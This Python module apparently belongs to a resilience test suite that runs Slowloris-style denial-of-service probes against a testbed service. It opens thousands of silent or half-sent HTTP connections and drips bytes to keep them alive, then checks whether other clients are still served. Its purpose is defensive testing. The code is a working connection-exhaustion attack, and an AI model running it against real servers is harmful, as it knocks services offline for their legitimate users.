"""Opens many silent, incomplete or slow connections while other clients want to be served (Slowloris)."""

from __future__ import annotations

import resource
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass

from abuse import client
from abuse.attempts import Attempt, Result
from abuse.service import Service
from abuse.testbed import Testbed

SERVED_WITHIN_S = 20
SUCCEEDS_IF = f"another client is not served within {SERVED_WITHIN_S} s, or is refused"
ENDED = "the connection is still open when the time is over"


@dataclass(frozen=True)
class Crowd:
    """sent: by each connection, with %H for the host; then it neither sends nor reads."""

    name: str
    sent: bytes
    count: int
    short: int
    # Seconds within which the service must close each of them; 0 if it need not.
    ended_within_s: int = 0
    # Whether responses are read while waiting for that.
    is_read: bool = True


_HEAD = b"Host: %H\r\nUser-Agent: slow\r\n"
CROWDS = (
    Crowd("silent", b"", 2000, 300, 90),
    Crowd("half a request line", b"GET /unr", 1000, 100, 60),
    Crowd("half-sent headers", b"GET /unread HTTP/1.1\r\n" + _HEAD, 2000, 300, 60),
    Crowd("half-sent bodies of forms", b"POST /sign-in HTTP/1.1\r\n" + _HEAD + b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nusername=a", 500, 100, 120),
    Crowd("half-sent bodies of the API", b"POST /v1/feeds HTTP/1.1\r\n" + _HEAD + b"Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{", 500, 100, 120),
    Crowd("half-sent chunks", b"POST /sign-in HTTP/1.1\r\n" + _HEAD + b"Content-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\nffff\r\na", 500, 50, 120),
    Crowd("idle after an answer", b"GET /healthcheck HTTP/1.1\r\nHost: %H\r\n\r\n", 1000, 100, 180),
    Crowd("answers that are not read", b"GET /v1/openapi.json HTTP/1.1\r\nHost: %H\r\n\r\n" * 40, 200, 30, 120, is_read=False),
    Crowd("upgrade to HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 500, 50, 180),
)  # fmt: skip


def run(testbed: Testbed) -> Iterator[Result]:
    _allow_descriptors()
    service = testbed.service()
    kept: list[tuple[Crowd, list[socket.socket], float]] = []
    for crowd in testbed.choose(CROWDS, 4):
        attempt = Attempt(
            crowd.name, f"{crowd.short if testbed.short else crowd.count} connections at once", SUCCEEDS_IF
        )
        connections = _open(service, crowd, crowd.short if testbed.short else crowd.count)
        kept.append((crowd, connections, time.monotonic()))
        yield Result(attempt, _served(service))
        if testbed.short:
            _close(connections)
    for crowd, connections, begun in kept if not testbed.short else []:
        if crowd.ended_within_s:
            attempt = Attempt(f"{crowd.name}: ended", f"waits for {crowd.ended_within_s} s", ENDED)
            is_ended = _is_ended if crowd.is_read else _is_gone
            yield Result(attempt, _left(connections, begun + crowd.ended_within_s, is_ended))
        _close(connections)
    yield Result(Attempt("after all of them", "all connections are closed", SUCCEEDS_IF), _served(service))
    yield from _dripping(testbed, service)


def _allow_descriptors() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = 12_000 if hard == resource.RLIM_INFINITY else min(12_000, hard)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, wanted), hard))


def _open(service: Service, crowd: Crowd, count: int) -> list[socket.socket]:
    host = f"{service.host}:{service.port}".encode()
    connections = []
    for _ in range(count):
        with suppress(OSError):
            connection = socket.create_connection((service.host, service.port), 10)
            # A small buffer, so that unread data stays with the service.
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connections.append(connection)
            connection.sendall(crowd.sent.replace(b"%H", host))
    return connections


def _served(service: Service) -> str:
    """Return why another client is not served, "" if it is."""
    for path in ("/healthcheck", "/sign-in"):
        begun = time.monotonic()
        try:
            answer = client.request(service, "GET", path, timeout_s=SERVED_WITHIN_S)
        except OSError as error:
            return f"{path}: {error!r} after {time.monotonic() - begun:.1f} s"
        if answer.status != 200:
            return f"{path}: {answer.status}"
    return ""


def _left(connections: list[socket.socket], deadline: float, is_ended: Callable[[socket.socket], bool]) -> str:
    """Return how many are open at the deadline, "" if all are closed before."""
    open_ones = [connection for connection in connections if not is_ended(connection)]
    while open_ones and time.monotonic() < deadline:
        time.sleep(0.5)
        open_ones = [connection for connection in open_ones if not is_ended(connection)]
    return f"{len(open_ones)} of {len(connections)}" if open_ones else ""


def _is_ended(connection: socket.socket) -> bool:
    connection.setblocking(False)
    try:
        while piece := connection.recv(65536):
            assert piece
    except BlockingIOError:
        return False
    except OSError:
        return True
    return True


def _is_gone(connection: socket.socket) -> bool:
    """Return whether the service has closed it: Linux says so only when something is sent on it. Reads nothing."""
    with suppress(BlockingIOError):
        connection.setblocking(False)
        try:
            connection.send(b"G")
        except OSError as error:
            if isinstance(error, BlockingIOError):
                raise
            return True
    return False


def _close(connections: list[socket.socket]) -> None:
    for connection in connections:
        connection.close()


def _dripping(testbed: Testbed, service: Service) -> Iterator[Result]:
    """Send single bytes at intervals, which keeps the connections alive."""
    host = f"{service.host}:{service.port}".encode()
    drips: dict[str, tuple[bytes, Callable[[int], bytes], int]] = {
        "headers byte by byte": (b"GET / HTTP/1.1\r\nHost: %H\r\n", lambda n: b"X-%d: a\r\n" % n, 60),
        "body byte by byte": (
            b"POST /sign-in HTTP/1.1\r\nHost: %H\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n",
            lambda n: b"a",
            120,
        ),
    }
    for name, (begin, drip, limit_s) in drips.items() if not testbed.short else []:
        begun, sent = time.monotonic(), 0
        with socket.create_connection((service.host, service.port), 10) as connection:
            connection.sendall(begin.replace(b"%H", host))
            try:
                while time.monotonic() < begun + limit_s and not _is_ended(connection):
                    connection.setblocking(True)
                    connection.sendall(drip(sent))
                    sent += 1
                    time.sleep(1)
                evidence = "" if time.monotonic() < begun + limit_s else f"open after {limit_s} s and {sent} pieces"
            except OSError:
                evidence = ""
        yield Result(Attempt(name, "one piece a second", ENDED), evidence)
